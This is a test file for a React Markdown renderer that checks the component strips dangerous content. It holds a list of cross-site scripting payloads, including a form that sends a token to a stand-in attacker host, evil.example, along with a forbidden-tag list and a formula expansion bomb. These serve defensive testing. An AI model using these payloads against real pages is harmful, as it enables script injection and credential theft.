import { cleanup, fireEvent, render, screen } from "@testing-library/react";
import { afterEach, describe, expect, test, vi } from "vitest";
import { Markdown } from "./index.tsx";

afterEach(cleanup);

const forbidden =
  "script, img, iframe, object, embed, form, style, link, meta, base, video, audio, image, foreignObject";

const payloads = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><foreignObject><script>alert(1)</script></foreignObject></svg>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
  "<style>*{display:none}</style><form action=//evil.example><input name=token></form>",
  "![x](https://evil.example/track.png) ![y](data:image/svg+xml;base64,PHN2Zz4=)",
  "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox) [y](\\x01javascript:alert(1)) [z](java\tscript:alert(1)) <javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x] and ![x]",
  "$$\\href{javascript:alert(1)}{x} \\url{javascript:alert(1)}$$",
  "$$\\htmlClass{x}{y} \\htmlStyle{position:fixed}{y} \\includegraphics{https://evil.example/x.png}$$",
  '```js"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
  "| <b onmouseover=alert(1)>a</b> |\n|---|\n| <img src=x onerror=alert(1)> |",
  "- [ ] <input autofocus onfocus=alert(1)>",
  "Text[^1]\n\n[^1]: <img src=x onerror=alert(1)> [back](javascript:alert(1))",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
];

describe("text of models and people", () => {
  test.each(payloads)("can run, load or send nothing: %s", (text) => {
    const { container } = render(<Markdown text={text} />);
    expect(container.querySelectorAll(forbidden)).toHaveLength(0);
    for (const element of container.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on/i);
        if (["href", "src", "action", "formaction", "xlink:href", "srcset", "poster"].includes(name)) {
          expect(value).toMatch(/^(https?|mailto):/);
        }
      }
    }
  });

  test("raw HTML is shown as what it is", () => {
    render(<Markdown text={"a <b>bold</b> claim"} />);
    expect(screen.getByText(/a <b>bold<\/b> claim/)).toBeDefined();
  });

  test("a formula can neither fill the page nor expand without end", () => {
    const { container } = render(
      <Markdown text={"$$\\rule{9999em}{9999em}$$ and $$\\def\\a{\\b\\b}\\def\\b{\\a\\a}\\a$$"} />,
    );
    for (const element of container.querySelectorAll<HTMLElement>("[style]")) {
      for (const size of [element.style.width, element.style.height, element.style.borderTopWidth]) {
        const ems = /^([\d.]+)em$/.exec(size)?.[1];
        if (ems !== undefined) expect(Number(ems)).toBeLessThanOrEqual(20);
      }
    }
  });

  test("a link shows where it goes and asks before it opens", () => {
    const open = vi.spyOn(window, "open").mockReturnValue(null);
    render(<Markdown text={"see [the docs](https://example.org/a?b=1)"} />);
    fireEvent.click(screen.getByRole("link", { name: "the docs" }));
    expect(open).not.toHaveBeenCalled();
    expect(screen.getByRole("alertdialog").textContent).toContain("https://example.org/a?b=1");
    fireEvent.click(screen.getByRole("button", { name: "Open in a new tab" }));
    expect(open).toHaveBeenCalledWith("https://example.org/a?b=1", "_blank", "noopener,noreferrer");
    open.mockRestore();
  });

  test("links carry no referrer and no opener", () => {
    render(<Markdown text={"[x](https://example.org)"} />);
    expect(screen.getByRole("link").getAttribute("rel")).toContain("noopener noreferrer");
  });

  test("two texts on one page never share an id", () => {
    const { container } = render(
      <>
        <Markdown text={"a[^1]\n\n[^1]: one"} />
        <Markdown text={"b[^1]\n\n[^1]: two"} />
      </>,
    );
    const ids = [...container.querySelectorAll("[id]")].map((element) => element.id);
    expect(new Set(ids).size).toBe(ids.length);
  });

  test("headings of an answer are no headings of the page", () => {
    const { container } = render(<Markdown text={"# One\n\n## Two"} />);
    expect(container.querySelectorAll("h1, h2")).toHaveLength(0);
    expect(screen.getByText("One").dataset.heading).toBe("1");
  });

  test("megabytes are shown as they are instead of being parsed", () => {
    const text = "*a* ".repeat(40_000);
    const { container } = render(<Markdown text={text} />);
    expect(container.querySelectorAll("em")).toHaveLength(0);
    expect(container.textContent).toContain("160,000 characters");
  });

  test("mathematics, tables and highlighted code are rendered", () => {
    const { container } = render(
      <Markdown text={"\\(x^2\\)\n\n| a |\n|---|\n| b |\n\n```ts\nconst a = 1;\n```"} />,
    );
    expect(container.querySelector(".katex")).not.toBeNull();
    expect(screen.getByRole("table")).toBeDefined();
    expect(container.querySelector(".hljs-keyword")?.textContent).toBe("const");
    expect(screen.getByRole("button", { name: /copy/i })).toBeDefined();
  });
});
